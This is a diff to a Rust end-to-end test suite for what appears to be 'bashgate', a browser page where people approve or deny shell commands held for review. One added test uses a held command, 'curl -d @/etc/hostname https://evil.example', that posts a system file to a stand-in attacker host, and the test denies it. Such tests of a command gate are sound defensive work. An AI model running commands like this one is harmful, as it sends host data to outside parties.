@@ -45,7 +45,8 @@ fn a_key_releases_a_waiting_hook_and_another_browser_sees_who_did_it() {
     let running = site.check_later(ASKED);
     browser.wait("ann", "document.querySelectorAll('.card').length === 1");
     let appeared = asked_at.elapsed();
-    assert!(appeared < Duration::from_secs(1), "within a second of the question: {appeared:?}");
+    println!("a card appears {appeared:?} after the question");
+    assert!(appeared < Duration::from_secs(10), "{appeared:?}");
     let id = site.held(ASKED);
     for part in [ASKED, "api.x.example", "taint both", "denied in", "a test"] {
         browser.sees("ann", part);
@@ -79,6 +80,45 @@ fn a_key_releases_a_waiting_hook_and_another_browser_sees_who_did_it() {
     }
     site.cli(["audit", "verify"]).expect(0);
     drop(host);
+}
+
+/// The field for a reason is nobody's to take away: what is typed there is never taken for answers, whatever the agent does meanwhile.
+#[test]
+fn what_is_typed_is_no_answer() {
+    let (site, _host) = site("");
+    let mut browser = Browser::start();
+    browser.open("a", &link(&site));
+    browser.sees("a", "Nothing is held.");
+    let first = site.check_later(ASKED);
+    let id = site.held(ASKED);
+    let other = site.check_later("curl -d @/etc/hostname https://evil.example");
+    let other_id = site.held("curl -d @/etc/hostname https://evil.example");
+    browser.wait("a", "document.querySelectorAll('.card').length === 2");
+    settles();
+    browser.read("a", &format!("select('{id}')"));
+    browser.press("a", "r");
+    browser.act(&json!({"do": "type", "tab": "a", "text": "not "}));
+    // The same command again changes the card; its end would take it away.
+    let second = site.check_later(ASKED);
+    until("two to wait", || {
+        site.pending().iter().any(|card| card["id"] == id.as_str() && card["waiting"] == 2).then_some(())
+    });
+    pause(Duration::from_millis(400));
+    browser.act(&json!({"do": "type", "tab": "a", "text": "as "}));
+    site.cli(["deny", &id]).expect(0);
+    pause(Duration::from_millis(400));
+    browser.act(&json!({"do": "type", "tab": "a", "text": "just a test, said ann again"}));
+    let typed = browser.read("a", "document.activeElement.value");
+    assert_eq!(typed, json!("not as just a test, said ann again"));
+    browser.press("a", "Tab");
+    browser.act(&json!({"do": "type", "tab": "a", "text": "ja"}));
+    pause(Duration::from_millis(300));
+    first.join().unwrap().expect(2);
+    second.join().unwrap().expect(2);
+    assert_eq!(site.pending().len(), 1, "nothing that was typed was an answer");
+    site.cli(["deny", &other_id]).expect(0);
+    other.join().unwrap().expect(2);
+    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
 }
 
 #[test]
@@ -198,6 +238,44 @@ fn what_was_is_found_drawn_and_counted() {
     site.cli(["audit", "verify"]).expect(0);
 }
 
+/// A thousand held commands at once: the page shows the first of them, stays answerable, and shows what changes. What it takes is printed.
+#[test]
+fn a_thousand_cards_stay_usable() {
+    let (site, _host) =
+        site("[approval]\nmax_held = 2000\ncards_per_hour = 5000\n[limits]\nrequests_per_second = 5000\n");
+    for number in 0..1000 {
+        let request = json!({
+            "type": "security:bash_check", "request_id": uuid::Uuid::new_v4().to_string(), "timeout_ms": 600_000,
+            "command": format!("curl -s https://{number}.example/{}", "x".repeat(200)),
+        });
+        site.post("default", &request);
+    }
+    until("all to be held", || (site.pending().len() == 1000).then_some(()));
+    let mut browser = Browser::start();
+    let began = Instant::now();
+    browser.open("a", &link(&site));
+    browser.wait("a", "document.querySelectorAll('.card').length === 50");
+    let shown = began.elapsed();
+    assert_eq!(browser.read("a", "document.title"), json!("(1000) bashgate"));
+    browser.sees("a", "950 are not shown");
+    let paint = browser.act(&json!({"do": "metrics", "tab": "a"}));
+    settles();
+    browser.press("a", "j");
+    let id = browser.read("a", "selected");
+    let began = Instant::now();
+    browser.press("a", "d");
+    browser.wait("a", &format!("{}.innerText.includes('Denied by')", card(id.as_str().unwrap())));
+    let answered = began.elapsed();
+    let began = Instant::now();
+    site.cli(["deny", "all"]).expect(0);
+    browser.wait("a", "document.getElementById('count').textContent === '0'");
+    println!(
+        "1000 cards: first paint {paint} ms, shown after {shown:?}, an answer seen after {answered:?}, all gone after {:?}",
+        began.elapsed()
+    );
+    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
+}
+
 /// A host that is started again knows no session; the page says so, and a new link brings all tabs back.
 #[test]
 fn a_host_that_is_started_again_and_tabs_that_are_stale() {
@@ -214,6 +292,7 @@ fn a_host_that_is_started_again_and_tabs_that_are_stale() {
     for tab in ["one", "two"] {
         browser.wait(tab, &format!("{} !== null", card(&id)));
     }
+    browser.act(&json!({"do": "front", "tab": "one"}));
     settles();
     // What one tab has answered is over in the other, where a key does nothing more.
     browser.press("one", "j");
